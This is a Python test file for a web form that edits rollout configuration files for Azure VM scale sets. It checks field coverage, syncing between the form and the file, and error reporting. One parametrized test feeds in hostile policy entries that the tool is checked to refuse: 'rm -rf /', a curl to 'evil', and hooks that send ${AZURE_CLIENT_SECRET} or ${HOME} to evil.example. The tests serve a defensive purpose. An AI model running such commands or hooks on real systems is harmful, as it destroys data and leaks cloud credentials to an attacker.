"""The form beside the file, without a browser: every key has its field, and each side follows the other."""

import asyncio
import threading
from dataclasses import fields
from functools import partial

import pytest

from rollset.core.ids import ScaleSetId
from rollset.faces.rolloutfile.form import SurgePart
from rollset.faces.wishes import ImageFlags, PaceFlags, SelectionFlags
from rollset.web.access.commands import ANY_COMMAND, NO_COMMANDS, Commands
from rollset.web.rolling.aside import Aside
from rollset.web.rolling.both import both_of, both_sent
from rollset.web.rolling.fields import all_fields, policy_groups
from rollset.web.rolling.filled import filled
from rollset.web.rolling.spoken import in_fields

SET = ScaleSetId(subscription="s", resource_group="myrg", name="web")
FILE = "scale_set: s/myrg/web\nimage:\n  version: latest\n"


def sent(file: str, was: str = FILE, **changed: str) -> dict[str, list[str]]:
    """What a browser sends of a page that shows `was`: every field with its value, or the changed one."""
    values = {name: value for name, value in filled("f", was).items() if value is not None}
    values |= {name.replace("__", "."): value for name, value in changed.items()}
    return {"file": [file.replace("\n", "\r\n")], "was": [was], **{name: [value] for name, value in values.items()}}


def both(form: dict[str, list[str]]):
    return both_sent(form, SET, commands=ANY_COMMAND)


def test_every_key_of_a_file_has_a_field():
    names = {field.name for field in all_fields()}
    surge = {"policy.surge", "policy.surge_fallback"}
    assert names >= {f"policy.{one.name}" for one in fields(PaceFlags)} - surge
    assert names >= {f"policy.surge.{one}" for one in SurgePart.model_fields}
    assert names >= {f"select.{one.name}" for one in fields(SelectionFlags)}
    assert names >= {f"image.{one.name}" for one in fields(ImageFlags)}
    assert len(names) == len(all_fields()), "none twice"
    assert all(field.hint for field in all_fields()), "each in words"


def test_files_are_read_one_at_a_time_for_each_person():
    begun: list[str] = []
    going = {name: threading.Event() for name in ("mine", "mine too", "yours")}

    def read(name: str) -> None:
        begun.append(name)
        going[name].wait(60)

    async def send() -> None:
        aside = Aside()
        sent = [aside.run(name[:4], partial(read, name)) for name in going]
        tasks = [asyncio.create_task(one) for one in sent]
        while len(begun) < 2:  # noqa: ASYNC110 (threads have no event for it)
            await asyncio.sleep(0.001)
        assert sorted(begun) == ["mine", "yours"], "whoever sends many waits for himself"
        for one in going.values():
            one.set()
        await asyncio.gather(*tasks)
        assert begun[2:] == ["mine too"]

    asyncio.run(send())


def test_a_form_that_nobody_touched_leaves_the_file_as_it_is():
    text = "# Mine.\nimage: {version: '4.0.1'}\npolicy:\n    batch_size: [1, 5%]   # slowly\n    repair: false\n"
    assert both(sent(text, was=text)).text == text


@pytest.mark.parametrize(
    ("field", "value", "written"),
    [
        ("policy__max_unavailable", "2", "policy:\n  max_unavailable: 2\n"),
        ("policy__batch_size", "1, 5%, 20%", "policy:\n  batch_size: [1, 5%, 20%]\n"),
        ("policy__batch_size", "5", "policy:\n  batch_size: 5\n"),
        ("policy__repair", "true", "policy:\n  repair: true\n"),
        ("policy__surge__add", "1", "policy:\n  surge:\n    add: 1\n"),
        ("policy__windows", "0 22 * * 1-5 6h UTC\n", "policy:\n  windows: [0 22 * * 1-5 6h UTC]\n"),
        ("select__instances", "1, 4, 7-9", "select:\n  instances: [1, 4, 7-9]\n"),
        ("model__vm_size", "Standard_D4s_v5", "model:\n  vm_size: Standard_D4s_v5\n"),
    ],
)
def test_a_field_is_written_as_a_person_would(field: str, value: str, written: str):
    after = both(sent(FILE, **{field: value}))
    assert after.text == FILE + written
    assert after.faults == ()


def test_both_sides_may_be_changed_at_once():
    after = both(sent(FILE + "policy:\n  bake: 5m\n", policy__retries="1"))
    assert after.text == FILE + "policy:\n  bake: 5m\n  retries: 1\n"
    assert after.values["policy.bake"] == "5m"


def test_the_short_form_of_a_surge_is_known_and_becomes_the_long_one():
    short = FILE + "policy:\n  surge: 2\n"
    assert filled("f", short)["policy.surge.add"] == "2"
    assert both(sent(short, was=short)).text == short
    longer = both(sent(short, was=short, policy__surge__fallback="in-place"))
    assert longer.text.endswith("policy:\n  surge:\n    add: 2\n    fallback: in-place\n")


def test_a_field_that_is_emptied_takes_its_key_out():
    with_bake = FILE + "policy:\n  bake: 5m\n"
    assert both(sent(with_bake, was=with_bake, policy__bake="")).text == FILE


def test_while_the_file_cannot_be_read_the_form_keeps_what_was_typed():
    broken = both(sent("policy: [", policy__retries="1"))
    assert (broken.text, broken.was, broken.values["policy.retries"]) == ("policy: [", FILE, "1")
    mended = both(sent(FILE, was=broken.was, policy__retries="1"))
    assert mended.text == FILE + "policy:\n  retries: 1\n"


def test_faults_are_told_where_they_stand():
    faulty = both(sent(FILE + "policy:\n  checkpoints: ['25%:approve', 7 pm]\n  pauze: 1m\n"))
    assert list(faulty.faults_by_field) == ["policy.checkpoints", ""]
    assert [words.partition(":")[0] for words in faulty.told] == ["line 5", "line 6"]


def test_what_contradicts_itself_is_told_as_a_whole():
    assert "rest between batches" in both(sent(FILE, policy__pause="1m")).told[0]


@pytest.mark.parametrize(
    "policy",
    [
        "gates: [{command: [rm, -rf, /]}]",
        "hooks: [{when: before-rollout, command: [curl, evil]}]",
        "hooks: [{when: before-rollout, http: 'https://evil.example/${AZURE_CLIENT_SECRET}'}]",
        "gates: [{http: 'https://evil.example/', headers: {x: '${HOME}'}}]",
    ],
)
def test_who_is_not_at_home_on_the_machine_has_nothing_run_there(policy: str):
    text = f"{FILE}policy:\n  {policy}\n"
    assert both_of(text, SET, commands=ANY_COMMAND).faults == ()
    refused = both_of(text, SET, commands=NO_COMMANDS)
    assert refused.meant is None
    assert "where the worker runs" in refused.told[0]


def test_what_the_configuration_lists_is_run_and_nothing_more():
    text = f"{FILE}policy:\n  gates:\n  - command: ./check.sh {{id}}\n"
    listed = Commands(listed=frozenset({("./check.sh", "{id}")}))
    assert both_of(text, SET, commands=listed).faults == ()
    for other in ("./check.sh {id} x", "./check.sh '{id} '", "sh ./check.sh {id}", "./Check.sh {id}"):
        assert both_of(text.replace("./check.sh {id}", other), SET, commands=listed).meant is None, other
    variable = f"{FILE}policy:\n  gates: [{{tcp: '${{HOME}}:22'}}]\n"
    assert both_of(variable, SET, commands=listed).meant is None


@pytest.mark.parametrize(
    ("said", "on_pages"),
    [
        ("add --switch-policy to have it set", "add policy.switch_policy: true to have it set"),
        (
            "without --surge, or say --surge-fallback in-place",
            "without policy.surge.add, or say policy.surge.fallback: in-place",
        ),
        (
            "--batch-size 10% is 2 instances (--max-unavailable 1)",
            "policy.batch_size: 10% is 2 instances (policy.max_unavailable: 1)",
        ),
        ("--health-deadline is 600 s", "policy.health_deadline is 600 s"),
        ("with --canary and --checkpoint", "with policy.canary and policy.checkpoints"),
        ("what --on-failure undo promises", "what policy.on_failure: undo promises"),
        ("accept it with --accept locked-read-only", "accept it by ticking locked-read-only"),
        (
            "policy.pause (--pause) is a rest; add --batch-size (in a file: batch_size)",
            "policy.pause is a rest; add policy.batch_size",
        ),
        ("starting nothing until `rollset resume`; 1 of 5", "starting nothing until it is resumed; 1 of 5"),
        ("look at it with: rollset status web-7k2m --state /a/b", "look at it with: the page of web-7k2m"),
        ("to go on: rollset undo web-7k2m; then: rollset upgrade", "to go on: undo web-7k2m; then: roll the set again"),
        ("cannot go with --no-wait (start_only): nobody", "cannot go with start_only: nobody"),
        ("carry it on with: rollset resume web-7k2m", "carry it on with: rollset resume web-7k2m"),
        (
            "az vmss update --set tags.a=b --id X --instance-ids 0",
            "az vmss update --set tags.a=b --id X --instance-ids 0",
        ),
    ],
)
def test_flags_are_keys_on_pages(said: str, on_pages: str):
    assert in_fields(said) == on_pages


def test_every_group_is_named_once():
    titles = [group.title for group in policy_groups()]
    assert len(titles) == len(set(titles))
